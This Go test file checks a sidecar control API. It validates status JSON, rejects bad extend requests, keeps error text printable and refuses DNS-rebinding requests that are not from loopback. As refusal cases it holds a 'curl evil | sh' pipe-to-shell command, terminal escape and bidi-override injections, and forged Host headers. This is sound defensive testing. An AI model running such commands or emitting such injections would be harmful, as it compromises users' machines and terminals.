package controlapi

import (
	"bytes"
	"encoding/json"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/bastion-ttl/bastion-ttl/internal/lifetime"
	"github.com/bastion-ttl/bastion-ttl/internal/termtext"
)

// testdata/status.json is a sidecar's answer to GET /status: it decodes,
// passes Validate, and encodes back to the same bytes, so no field is
// renamed, dropped or reordered unseen.
func TestStatusRoundTrip(t *testing.T) {
	raw, err := os.ReadFile("testdata/status.json")
	if err != nil {
		t.Fatal(err)
	}
	s := decode(t, raw)
	if err := s.Validate(); err != nil {
		t.Fatalf("Validate: %v", err)
	}
	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetIndent("", "  ")
	if err := enc.Encode(s); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out.Bytes(), raw) {
		t.Fatalf("encoded again:\n%s\nwant:\n%s", out.Bytes(), raw)
	}
}

func decode(t *testing.T, raw []byte) Status {
	t.Helper()
	var s Status
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&s); err != nil {
		t.Fatal(err)
	}
	return s
}

// Validate refuses every answer a sidecar would not send: whatever holds
// the port answers, and its text reaches terminals.
func TestValidateRefuses(t *testing.T) {
	raw, err := os.ReadFile("testdata/status.json")
	if err != nil {
		t.Fatal(err)
	}
	for name, mutate := range map[string]func(s *Status){
		"another schema version":   func(s *Status) { s.SchemaVersion = 2 },
		"no schema version":        func(s *Status) { s.SchemaVersion = 0 },
		"built from the metadata":  func(s *Status) { s.Source = SourceMetadata },
		"not a task ARN":           func(s *Status) { s.TaskARN = "arn:aws:ecs:us-west-2:111122223333:cluster/default" },
		"an escape in the ARN":     func(s *Status) { s.TaskARN += "\x1b[2J" },
		"a long ARN":               func(s *Status) { s.TaskARN += strings.Repeat("a", 256) },
		"ttl null":                 func(s *Status) { s.TTL = nil },
		"deadline null":            func(s *Status) { s.Deadline = nil },
		"connections null":         func(s *Status) { s.Connections = nil },
		"another reason":           func(s *Status) { r := "boredom"; s.Reason = &r },
		"idle without a deadline":  func(s *Status) { s.IdleDeadline = nil },
		"ttl not a duration":       func(s *Status) { d := "forever"; s.TTL = &d },
		"remaining not a duration": func(s *Status) { d := "\x1b]0;x\x07"; s.Remaining = &d },
		"maxTtl not a duration":    func(s *Status) { s.MaxTTL = "lots" },
		"warning of another kind":  func(s *Status) { s.Warning = "run this: curl evil | sh" },
		"warning with an escape":   func(s *Status) { s.Warning = WarningPrefix + "5m \x1b]0;owned\x07" },
		"warning with a bidi mark": func(s *Status) { s.Warning = WarningPrefix + "5m \u202e" },
		"warning too long":         func(s *Status) { s.Warning = WarningPrefix + strings.Repeat("x", 80) },
		"an unknown deadline text": func(s *Status) { s.Unknown = "trust me" },
	} {
		t.Run(name, func(t *testing.T) {
			s := decode(t, raw)
			mutate(&s)
			if err := s.Validate(); err == nil {
				t.Fatalf("Validate accepted %+v", s)
			}
		})
	}
}

// The reasons are the lifetime package's limits, by value: the server
// writes the one, clients read the other.
func TestReasonsAreTheLimits(t *testing.T) {
	if ReasonTTL != string(lifetime.LimitTTL) || ReasonIdle != string(lifetime.LimitIdle) {
		t.Fatalf("reasons %q, %q; limits %q, %q", ReasonTTL, ReasonIdle, lifetime.LimitTTL, lifetime.LimitIdle)
	}
}

func TestDecodeExtendRequest(t *testing.T) {
	if by, err := DecodeExtendRequest([]byte(`{"by":"30m"}`)); err != nil || by != 30*time.Minute {
		t.Fatalf("30m: %v, %v", by, err)
	}
	if by, err := DecodeExtendRequest([]byte(` {"by": "1m"} `)); err != nil || by != MinExtension {
		t.Fatalf("1m with spaces: %v, %v", by, err)
	}
	for name, body := range map[string]string{
		"empty":          ``,
		"not JSON":       `30m`,
		"too short":      `{"by":"30s"}`,
		"negative":       `{"by":"-1h"}`,
		"not a duration": `{"by":"forever"}`,
		"missing":        `{}`,
		"unknown field":  `{"by":"30m","ttl":"12h"}`,
		"two objects":    `{"by":"30m"}{"by":"30m"}`,
		"trailing data":  `{"by":"30m"} x`,
		"huge number":    `{"by":"` + strings.Repeat("9", 900) + `h"}`,
		"overflows":      `{"by":"2562047h1h"}`,
	} {
		if by, err := DecodeExtendRequest([]byte(body)); err == nil {
			t.Errorf("%s: %q accepted as %v", name, body, by)
		} else if termtext.HasUnsafe(err.Error()) {
			t.Errorf("%s: error %q", name, err)
		}
	}
}

func TestErrorBodyPrintable(t *testing.T) {
	for text, want := range map[string]bool{
		"the TTL is already at its cap of 12h0m0s": true,
		"":                       false,
		"\x1b]0;owned\x07":       false,
		"cap \u202ereached":      false,
		"cap \u2066reached":      false, // a bidi isolate
		"\u009b2J":               false, // C1 CSI
		"lone \x9b byte":         false, // not UTF-8
		strings.Repeat("x", 300): true,
		strings.Repeat("x", 301): false,
		"two\nlines":             false,
	} {
		if got := (ErrorBody{Code: CodeCapReached, Error: text}).Printable(); got != want {
			t.Errorf("Printable(%q) = %v, want %v", text, got, want)
		}
	}
}

// The client waits for the server's longest answer: the queue and the
// API's call.
func TestExtendAnswerTimeoutCoversTheServer(t *testing.T) {
	if ExtendAnswerTimeout <= ExtendQueueWait+ExtendBudget {
		t.Fatalf("ExtendAnswerTimeout %v, under the queue %v and the budget %v", ExtendAnswerTimeout, ExtendQueueWait, ExtendBudget)
	}
}

// CheckLocal answers only requests addressed to loopback by a client that
// is not a web page: a page that rebinds its name to 127.0.0.1 sends its
// own name as Host, and a browser adds Origin to what a page sends.
func TestCheckLocal(t *testing.T) {
	for _, tc := range []struct {
		host, origin string
		withOrigin   bool
		answered     bool
	}{
		{host: "127.0.0.1:8311", answered: true},
		{host: "127.0.0.1", answered: true},
		{host: "localhost", answered: true},
		{host: "localhost:1234", answered: true}, // a forward: the laptop's port
		{host: "LOCALHOST:1234", answered: true}, // names have no case
		{host: "LocalHost", answered: true},
		{host: "[::1]:8311", answered: true},
		{host: "[::1]", answered: true},
		{host: "localhost:", answered: true}, // an empty port is a valid Host
		{host: "127.0.0.1.evil.example"},
		{host: "127.0.0.1.evil.example:8311"},
		{host: "localhost.evil.example"},
		{host: "evil.example:8311"},
		{host: "evil.example"},
		{host: ""},
		{host: "127.0.0.2"},
		{host: "127.0.0.2:8311"},
		{host: "127.1"},
		{host: "2130706433"},
		{host: "[::ffff:127.0.0.1]"},
		{host: "[::ffff:127.0.0.1]:8311"},
		{host: "0.0.0.0"},
		{host: "0.0.0.0:8311"},
		{host: "localhost."},
		{host: "localhost.:8311"},
		{host: "127.0.0.1."},
		{host: "::1"}, // an IPv6 literal needs its brackets
		{host: "::1:8311"},
		{host: "[127.0.0.1]"},     // brackets hold IPv6 only
		{host: "[::1%25lo]:8311"}, // a zone is another name
		{host: "127.0.0.1:http"},  // a port is digits
		{host: "127.0.0.1:8311:8311"},
		{host: "127.0.0.1:123456"},
		{host: "localhost@evil.example"},
		{host: "127.0.0.1:8311", origin: "http://evil.example:8311", withOrigin: true},
		{host: "127.0.0.1:8311", origin: "null", withOrigin: true}, // sandboxed frames, file: pages
		{host: "127.0.0.1:8311", origin: "", withOrigin: true},
		{host: "localhost:8311", origin: "http://localhost:8311", withOrigin: true}, // any value
		{host: "evil.example:8311", origin: "http://evil.example:8311", withOrigin: true},
	} {
		r := httptest.NewRequest("GET", StatusPath, nil)
		r.Host = tc.host
		if tc.withOrigin {
			r.Header["Origin"] = []string{tc.origin}
		}
		err := CheckLocal(r)
		if answered := err == nil; answered != tc.answered {
			t.Errorf("Host %q, Origin %q (sent: %v): answered %v (%v), want %v", tc.host, tc.origin, tc.withOrigin, answered, err, tc.answered)
			continue
		}
		if err != nil && !(ErrorBody{Code: CodeForbidden, Error: err.Error()}).Printable() {
			t.Errorf("Host %q: the refusal %q cannot be shown to a person", tc.host, err)
		}
	}
}

// The refusal quotes a Host cut short and escaped: it is one printable line
// whatever the request carried.
func TestCheckLocalRefusalIsOneLine(t *testing.T) {
	r := httptest.NewRequest("GET", StatusPath, nil)
	r.Host = "\u202e\x1b[2J" + strings.Repeat("a", 400)
	err := CheckLocal(r)
	if err == nil || !(ErrorBody{Code: CodeForbidden, Error: err.Error()}).Printable() {
		t.Fatalf("refusal %q", err)
	}
}
